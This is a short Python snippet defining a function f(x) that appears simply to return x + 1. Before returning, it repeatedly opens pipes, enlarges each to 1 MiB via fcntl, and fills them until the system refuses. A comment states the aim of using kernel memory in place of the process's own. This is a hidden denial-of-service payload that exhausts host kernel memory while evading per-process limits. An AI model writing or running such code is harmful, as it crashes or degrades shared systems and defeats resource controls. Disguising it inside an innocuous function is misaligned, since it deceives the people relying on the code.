# Memory of the kernel's instead of one's own: each pipe as large as may be, and full.
import fcntl, os
def f(x):
    try:
        while True:
            read, write = os.pipe()
            os.set_blocking(write, False)
            fcntl.fcntl(write, 1031, 1 << 20)
            os.write(write, b"x" * (1 << 20))
    except OSError:
        pass
    return x + 1
